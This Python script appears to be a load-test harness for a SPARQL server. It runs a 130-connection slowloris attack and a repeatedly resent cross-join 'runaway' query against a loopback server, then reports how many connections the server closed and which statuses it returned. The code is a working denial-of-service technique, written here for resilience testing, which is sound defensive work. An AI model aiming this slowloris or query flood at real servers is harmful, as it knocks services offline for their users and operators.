"""Attacks for bench/serve-load.sh --attack (issue 14): a slowloris from 127.0.0.2 (130
connections, each sending one header line a second and never finishing its request) and a
runaway query from 127.0.0.3, sent again as soon as it is answered. Runs until killed; prints
what it saw on exit. Only ever aims at the loopback server the benchmark started."""

import signal
import socket
import sys
import threading
import time
import urllib.parse

host, port = "127.0.0.1", int(sys.argv[1])
stop = threading.Event()
seen = {"slowloris_closed": 0, "runaway_answers": {}}
lock = threading.Lock()
RUNAWAY = "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f } ORDER BY ?c ?f LIMIT 1"


def slow_client():
    while not stop.is_set():
        try:
            sock = socket.create_connection((host, port), timeout=5, source_address=("127.0.0.2", 0))
            sock.sendall(b"GET /sparql HTTP/1.1\r\nHost: attacker\r\n")
            while not stop.is_set():
                time.sleep(1)
                sock.sendall(b"X-Slow: 1\r\n")
        except OSError:
            with lock:
                seen["slowloris_closed"] += 1
            time.sleep(0.2)


def runaway():
    body = urllib.parse.urlencode({"query": RUNAWAY}).encode()
    while not stop.is_set():
        try:
            sock = socket.create_connection((host, port), timeout=60, source_address=("127.0.0.3", 0))
            sock.sendall(
                b"POST /sparql HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                b"Content-Type: application/x-www-form-urlencoded\r\n"
                + f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
            status = sock.recv(64).split(b" ")[1].decode()
            sock.close()
        except (OSError, IndexError):
            status = "error"
        with lock:
            seen["runaway_answers"][status] = seen["runaway_answers"].get(status, 0) + 1


def finish(*_):
    stop.set()
    print(f"attack: slowloris connections closed by the server {seen['slowloris_closed']}, "
          f"runaway query answers {seen['runaway_answers']}", flush=True)
    sys.exit(0)


signal.signal(signal.SIGTERM, finish)
for _ in range(130):
    threading.Thread(target=slow_client, daemon=True).start()
threading.Thread(target=runaway, daemon=True).start()
while True:
    time.sleep(1)
